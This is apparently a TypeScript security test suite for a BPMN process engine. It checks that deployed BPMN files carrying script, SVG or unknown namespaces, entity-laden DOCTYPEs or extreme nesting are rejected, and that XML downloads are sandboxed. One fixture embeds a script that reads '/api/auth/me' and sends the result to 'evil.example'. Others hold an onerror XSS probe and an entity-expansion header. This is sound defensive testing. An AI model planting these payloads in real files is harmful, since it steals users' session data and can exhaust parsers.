import fs from 'node:fs';
import path from 'node:path';
import { expect } from 'chai';
import { startServer, type Client, type TestServer } from '../helpers/api.ts';
import { flow, process, userTask } from '../helpers/bpmn.ts';
import { checkXml, MAX_XML_DEPTH } from '../../src/engine/xml-guard.ts';
import { snapshot } from './helpers.ts';

/** Issue 10, finding 7: stored XSS through a deployed BPMN file. */

const TABLES = ['deployments', 'process_definitions', 'forms', 'jobs', 'event_subscriptions', 'audit_log'];

function withScript(id: string): string {
  return process(
    id,
    `<bpmn:startEvent id="start">
       <bpmn:extensionElements><h:script xmlns:h="http://www.w3.org/1999/xhtml">fetch('/api/auth/me').then(r=>r.text()).then(t=>new Image().src='//evil.example/?'+t)</h:script></bpmn:extensionElements>
     </bpmn:startEvent>
     ${flow('f1', 'start', 'work')}
     ${userTask('work', '办理', 'camunda:candidateGroups="staff"')}
     ${flow('f2', 'work', 'end')}
     <bpmn:endEvent id="end" />`,
  );
}

const plain = process(
  'xml-plain',
  `<bpmn:startEvent id="start" />
   ${flow('f1', 'start', 'work')}
   ${userTask('work', '办理', 'camunda:candidateGroups="staff"')}
   ${flow('f2', 'work', 'end')}
   <bpmn:endEvent id="end" />`,
);

describe('Security: BPMN files cannot carry script (finding 7)', () => {
  let s: TestServer;
  let owner: Client;

  before(async () => {
    s = await startServer();
    owner = await s.login('owner');
    await s.engine.deploy([{ name: 'xml-plain.bpmn', content: plain }], { by: 'owner' });
  });
  after(async () => {
    await s.close();
  });

  it('Given an XHTML <script> in extensionElements, when the owner deploys it, then 400 names the namespace and nothing is stored', async () => {
    const before = await snapshot(s.db, TABLES);
    const res = await owner.post('/api/deployments', { files: [{ name: 'xss.bpmn', content: withScript('xss') }] });
    expect(res.status).to.equal(400);
    expect(res.body.error.code).to.equal('DEPLOYMENT_INVALID');
    expect(res.body.error.details.map((d: any) => d.message).join('\n')).to.contain('http://www.w3.org/1999/xhtml');
    expect(res.body.error.details[0]).to.include({ file: 'xss.bpmn', line: 6 });
    expect(await snapshot(s.db, TABLES)).to.deep.equal(before);
    expect((await owner.get('/api/process-definitions/xss/xml')).status).to.equal(404);
  });

  it('Given a DOCTYPE with entities, a default xhtml namespace, an SVG one and 40,000 levels of nesting, when deployed together, then every file is listed and nothing is stored', async () => {
    const before = await snapshot(s.db, TABLES);
    const doctype = `<?xml version="1.0"?><!DOCTYPE d [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;">]>` + plain.replace(/^<\?xml[^>]*>/, '').replace('xml-plain', 'xml-doctype');
    const defaultNs = plain.replace('xml-plain', 'xml-default').replace('<bpmn:endEvent id="end" />', '<bpmn:endEvent id="end"><bpmn:documentation><div xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="alert(1)"/></div></bpmn:documentation></bpmn:endEvent>');
    const svg = plain.replace('xml-plain', 'xml-svg').replace('<bpmn:definitions ', '<bpmn:definitions xmlns:s="&#104;ttp://www.w3.org/2000/svg" ');
    const deep = plain.replace('xml-plain', 'xml-deep').replace('<bpmn:endEvent id="end" />', '<bpmn:endEvent id="end" /><bpmn:extensionElements>' + '<camunda:x>'.repeat(40_000) + '</camunda:x>'.repeat(40_000) + '</bpmn:extensionElements>');
    const res = await owner.post('/api/deployments', {
      files: [
        { name: 'doctype.bpmn', content: doctype },
        { name: 'default.bpmn', content: defaultNs },
        { name: 'svg.bpmn', content: svg },
        { name: 'deep.bpmn', content: deep },
      ],
    });
    expect(res.status).to.equal(400);
    expect(res.body.error.code).to.equal('DEPLOYMENT_INVALID');
    const byFile = (f: string) => res.body.error.details.filter((d: any) => d.file === f).map((d: any) => d.message).join('\n');
    expect(byFile('doctype.bpmn')).to.contain('DOCTYPE');
    expect(byFile('default.bpmn')).to.contain('http://www.w3.org/1999/xhtml');
    expect(byFile('svg.bpmn')).to.contain('http://www.w3.org/2000/svg');
    expect(byFile('deep.bpmn')).to.contain(`${MAX_XML_DEPTH} 层`);
    expect(await snapshot(s.db, TABLES)).to.deep.equal(before);
  });

  it('Given a stored definition, when its XML is fetched, then it comes as a sandboxed attachment with the /api security headers', async () => {
    const res = await owner.get('/api/process-definitions/xml-plain/xml');
    expect(res.status).to.equal(200);
    expect(res.text).to.contain('<bpmn:definitions');
    expect(res.headers.get('content-disposition')).to.match(/^attachment; filename="xml-plain\.bpmn"/);
    expect(res.headers.get('content-security-policy')).to.match(/^sandbox/);
    expect(res.headers.get('x-content-type-options')).to.equal('nosniff');
    expect(res.headers.get('x-frame-options')).to.equal('DENY');
  });

  it('Given any /api answer, JSON, error or anonymous, then it carries nosniff, a restrictive CSP, DENY framing and no referrer', async () => {
    for (const res of [await owner.get('/api/tasks'), await s.anonymous().get('/api/tasks'), await owner.get('/api/no-such-thing'), await s.anonymous().get('/api/health')]) {
      expect(res.headers.get('x-content-type-options')).to.equal('nosniff');
      expect(res.headers.get('content-security-policy')).to.equal("default-src 'none'; frame-ancestors 'none'");
      expect(res.headers.get('x-frame-options')).to.equal('DENY');
      expect(res.headers.get('referrer-policy')).to.equal('no-referrer');
    }
  });

  it('accepts every shipped procedure and the namespaces the modeler writes', () => {
    const modeler = plain.replace('<bpmn:definitions ', '<bpmn:definitions xmlns:bpmndi="http://www.omg.org/spec/BPMN/20100524/DI" xmlns:dc="http://www.omg.org/spec/DD/20100524/DC" xmlns:di="http://www.omg.org/spec/DD/20100524/DI" xmlns:modeler="http://camunda.org/schema/modeler/1.0" xmlns:bioc="http://bpmn.io/schema/bpmn/biocolor/1.0" xmlns:color="http://www.omg.org/spec/BPMN/non-normative/color/1.0" ');
    expect(checkXml(modeler)).to.deep.equal([]);
    for (const f of fs.readdirSync('processes').filter((n) => n.endsWith('.bpmn'))) {
      expect(checkXml(fs.readFileSync(path.join('processes', f), 'utf8')), f).to.deep.equal([]);
    }
  });

  it('Given a foreign namespace that is declared but used by nothing (jBPM/Drools, Bonita exports), then it is only a note; used by an element or attribute, or a markup vocabulary even unused, it is refused', () => {
    const declared = (decl: string, body = '') => plain.replace('<bpmn:definitions ', `<bpmn:definitions ${decl} `).replace('<bpmn:endEvent id="end" />', `<bpmn:endEvent id="end" ${body} />`);
    const notes: string[] = [];
    expect(checkXml(declared('xmlns:drools="http://www.jboss.org/drools"'), 'bpmn', notes)).to.deep.equal([]);
    expect(notes).to.deep.equal(['已忽略声明但未使用的 XML 命名空间 "http://www.jboss.org/drools"（xmlns:drools）']);
    // The same declaration, used by an attribute or an element: refused.
    expect(checkXml(declared('xmlns:drools="http://www.jboss.org/drools"', 'drools:onEntry="x"'))[0].message).to.contain('http://www.jboss.org/drools');
    const element = plain.replace('<bpmn:definitions ', '<bpmn:definitions xmlns:qa="http://some-company/qa" ').replace('<bpmn:endEvent id="end" />', '<bpmn:endEvent id="end"><bpmn:extensionElements><qa:x /></bpmn:extensionElements></bpmn:endEvent>');
    expect(checkXml(element)[0].message).to.contain('http://some-company/qa');
    // Markup vocabularies are refused even unused (XHTML under another spelling too).
    expect(checkXml(declared('xmlns:h="https://www.w3.org/1999/xhtml/"'))).to.have.length(1);
    expect(checkXml(declared('xmlns:x="http://www.w3.org/1999/XSL/Transform"'))).to.have.length(1);
  });
});
